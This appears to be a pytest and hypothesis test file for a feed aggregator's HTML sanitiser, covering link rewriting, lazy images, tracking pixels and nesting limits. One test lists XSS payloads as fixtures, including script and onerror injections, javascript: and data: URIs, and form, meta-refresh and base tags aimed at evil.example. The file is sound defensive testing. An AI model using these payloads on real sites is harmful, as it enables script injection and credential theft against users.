from __future__ import annotations

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aggregator.text.html import clean, plain, plain_of_clean

BASE = "https://paper.example/feeds/news.xml"
ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "link", "meta", "base"}
LINK = "https://paper.example/2026/story"


@pytest.mark.case("B-33")
@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<object data='https://evil.example/x.swf'></object>",
        "<embed src='https://evil.example/x.swf'>",
        "<form action='https://evil.example'><input name=password></form>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<style>body{display:none}</style>",
        "<p style='background:url(javascript:alert(1))' class='x' id='y'>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<video><source onerror=alert(1)></video>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<img data-src='javascript:alert(1)'>",
        "<img srcset='javascript:alert(1) 2x'>",
        "<a title='<img src=x onerror=alert(1)>' href='/x'>x</a>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
    ],
)
def test_nothing_that_acts_is_left(attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>", BASE)
    tree = lxml.html.fragment_fromstring(cleaned, create_parent="div")
    found = [(element.tag, name, value) for element in tree.iter() for name, value in element.attrib.items()]
    assert "before" in cleaned
    assert not {element.tag for element in tree.iter()} & ACTIVE
    assert not [one for one in found if one[1].startswith("on") or one[1] in {"style", "class", "id"}]
    assert not [one for one in found if one[1] in {"href", "src", "cite", "poster"} and not one[2].startswith("http")]


@pytest.mark.case("P-52")
@pytest.mark.parametrize(
    ("given_link", "expected"),
    [
        ("../a.html", "https://paper.example/a.html"),
        ("/a b.html", "https://paper.example/a%20b.html"),
        ("//cdn.example/a", "https://cdn.example/a"),
        ("?page=2", "https://paper.example/feeds/news.xml?page=2"),
        ("#note", "https://paper.example/2026/story#note"),
        ("https://other.example/x?a=1&amp;b=2", "https://other.example/x?a=1&amp;b=2"),
        ("mailto:me@paper.example", "mailto:me@paper.example"),
        (" https://other.example/x\n", "https://other.example/x"),
    ],
)
def test_links_are_absolute(given_link: str, expected: str) -> None:
    assert clean(f'<p><a href="{given_link}">x</a></p>', BASE, permalink=LINK) == f'<p><a href="{expected}">x</a></p>'


@pytest.mark.parametrize("link", ["http://[bad/x", "ftp://files.example/x", "urn:x:1", ""])
def test_a_link_that_leads_nowhere_for_a_reader_loses_its_address_but_not_its_words(link: str) -> None:
    assert clean(f'<p><a href="{link}">words</a></p>', BASE) == "<p><a>words</a></p>"


@pytest.mark.case("P-52")
@pytest.mark.parametrize(
    ("image", "expected"),
    [
        ('<img src="../moon.jpg" alt="Moon">', '<img src="https://paper.example/moon.jpg" alt="Moon">'),
        (
            '<img src="/small.jpg" DATA-SRC="/moon.jpg" alt="data- > srcset">',
            '<img src="https://paper.example/moon.jpg" alt="data- &gt; srcset">',
        ),
        (
            '<img src="data:image/gif;base64,R0" data-src="/moon.jpg" alt="Moon">',
            '<img src="https://paper.example/moon.jpg" alt="Moon">',
        ),
        ('<img data-lazy-src="/moon.jpg">', '<img src="https://paper.example/moon.jpg">'),
        ('<img src="/blank.gif" data-original="/moon.jpg">', '<img src="https://paper.example/moon.jpg">'),
        ('<img srcset="/s.jpg 320w, /l.jpg 1280w, /m.jpg 640w">', '<img src="https://paper.example/l.jpg">'),
        ('<img src="/own.jpg" srcset="/l.jpg 2x">', '<img src="https://paper.example/own.jpg">'),
        (
            '<img data-src="/moon.jpg"><noscript><img src="/moon.jpg"></noscript>',
            '<img src="https://paper.example/moon.jpg">',
        ),
        ('<noscript><img src="/moon.jpg"></noscript>', '<img src="https://paper.example/moon.jpg">'),
        (
            '<picture><source srcset="/moon.webp"><img src="/moon.jpg"></picture>',
            '<img src="https://paper.example/moon.jpg">',
        ),
    ],
)
def test_an_image_has_the_source_that_a_reader_would_have_seen(image: str, expected: str) -> None:
    assert clean(image, BASE) in {expected, f"<source>{expected}"}


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://count.example/p.gif?n=1" width="1" height="1">',
        '<img height="0" width="0" src="https://count.example/p.gif">',
        '<img width="1px" src="https://count.example/p.gif">',
        '<img src="https://pixel.wp.com/b.gif?host=x">',
        '<img src="http://feeds.feedburner.com/~r/Paper/~4/abc">',
        '<img alt="no source">',
    ],
)
def test_images_that_nobody_sees_are_removed(pixel: str) -> None:
    assert clean(f"<p>a{pixel}b</p>", BASE) == "<p>ab</p>"


def test_counting_pixels_stay_where_a_licence_asks_for_them() -> None:
    pixel = '<img src="https://counter.theconversation.com/content/1/count.gif" width="1" height="1">'
    assert clean(pixel, BASE) == ""
    assert clean(pixel, BASE, keep_pixels=True) == pixel


def test_a_frame_becomes_a_link_to_what_it_shows() -> None:
    frame = '<iframe src="//www.youtube.com/embed/abcDEF12345?rel=0" title="A film"></iframe>'
    assert clean(frame, BASE) == '<p><a href="https://www.youtube.com/watch?v=abcDEF12345">A film</a></p>'


def test_licence_links_keep_their_relation_and_others_lose_theirs() -> None:
    assert 'rel="license"' in clean('<a rel="license" href="https://cc.example/by">x</a>', BASE)
    assert (
        clean('<a rel="nofollow" href="https://cc.example/by">x</a>', BASE) == '<a href="https://cc.example/by">x</a>'
    )


def test_elements_are_balanced_and_text_is_escaped() -> None:
    assert clean("<p>a<b>b<p>c & d < e", BASE) == "<p>a<b>b</b></p><p><b>c &amp; d &lt; e</b></p>"
    assert clean("1 < 2 & 3 > 2", BASE) == "1 &lt; 2 &amp; 3 &gt; 2"


def test_characters_that_no_document_may_hold_are_dropped() -> None:
    assert clean("<p>a\x00b\x08c\ud800d\ufffe</p>", BASE) == "<p>abcd</p>"


_SOUP = (
    "<p> </p> <div> </div> <a href='x'> </a> <b> </b> <i> <table> <tr> <td> </td> </table> <ul> <li> </ul> <pre>\n </pre> "
    "<button> </button> <object> <svg> </svg> <math> <mi> <select> <option> <h1> </h1> <img> <img\x20src='/x.jpg'> <form> "
    "</form> <marquee> <applet> <template> </template> <nobr> <font> <caption> <col> <thead> <dl> <dt> <dd> <ruby> <rt> "
    "<details> <summary> <frameset> <body> <html> <head> <title> </title> <textarea> <xmp> <plaintext> <noscript> "
    "<iframe> </iframe> <video> <source> <center> <address> <article> </article> <header> </header> <section> <mark> </mark> "
    "<time> </time> <tt> </tt> <!-- --> <![CDATA[ ]]> <? &lt; &amp; &nbsp; & text \n \n\n \" ' = > <"
)
_PIECES = st.sampled_from(_SOUP.split(" "))


@settings(deadline=None)
@given(st.lists(_PIECES, max_size=14).map(" ".join))
@example("<p><button><p>x</button>")
@example("<a href='x'><object><a href='y'>")
@example("<pre>\n\nx</pre>")
@example("<table><a href='x'>y<tr><td>z")
def test_cleaning_twice_changes_nothing(soup: str) -> None:
    once = clean(soup, BASE)
    assert clean(once, BASE) == once
    assert plain_of_clean(once) == plain(once)


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_cleaned_and_stays_clean(text: str) -> None:
    once = clean(text, BASE)
    assert clean(once, BASE) == once


@pytest.mark.parametrize(
    "soup",
    [
        "<div>" * 200_000,
        "<ul><li>" * 50_000,
        "".join(f"<b title={n}>" for n in range(9_000)) + "<p>x" * 9_000,
        "<a '" * 20_000,
        '<a b="' * 20_000,
        "<b><p>" * 3_000,
        "&" * 50_000,
        "<" * 50_000,
    ],
)
def test_hostile_nesting_ends_in_good_time(soup: str) -> None:
    assert len(clean(soup, BASE)) < 3_000_000
    assert len(plain(soup)) <= len(soup)


def test_what_is_nested_too_deeply_keeps_its_words() -> None:
    assert (
        clean("<div>" * 600 + "<p>one<p>two &amp; three" + "</div>" * 600, BASE) == "<p>one</p>\n<p>two &amp; three</p>"
    )
    deep = "<div>" * 300 + "words" + "</div>" * 300
    assert clean(deep, BASE) == deep


def test_plain_text_has_a_line_for_each_block_and_no_markup() -> None:
    html = (
        "<h1>Head\n line</h1><p>One <b>bold</b>&nbsp;word &amp; a<br>break</p><ul><li>x<li>y</ul>"
        "<script>no()</script><style>p{}</style><!-- no --><img alt='no' src='x'><table><tr><td>1<td>2</table>"
    )
    assert plain(html) == "Head line\nOne bold word & a\nbreak\nx\ny\n1\n2"


def test_plain_text_keeps_what_only_looks_like_markup() -> None:
    assert plain("a &lt;b&gt; c") == "a <b> c"
    assert plain("1 < 2 and 3 > 2") == "1 < 2 and 3 > 2"
    assert plain('<a title="x > y" href="z">link</a>ed') == "linked"


@given(
    st.lists(
        st.sampled_from(
            [
                'src="https://a.example/1.jpg"', "src=/2.jpg", "DATA-SRC='/3.jpg'", 'data-lazy-src="/4.jpg"',
                'SrcSet="/5.jpg 2x, /6.jpg 1x"', 'alt="data- srcset"', 'alt="Moon"', "width=1", "src='data:,x'",
            ]
        ),
        unique=True,
    )
)  # fmt: skip
def test_an_image_without_a_lazy_source_reads_as_one_that_was_looked_through(attributes: list[str]) -> None:
    frame = '<iframe src="https://a.example/f"></iframe>'
    short, long = (f"{frame}<img {' '.join([*attributes, more])}>" for more in ("", 'data-x="1"'))
    assert clean(short, "https://paper.example/") == clean(long, "https://paper.example/")
    if attributes == ["DATA-SRC='/3.jpg'"]:
        assert "https://paper.example/3.jpg" in clean(short, "https://paper.example/")
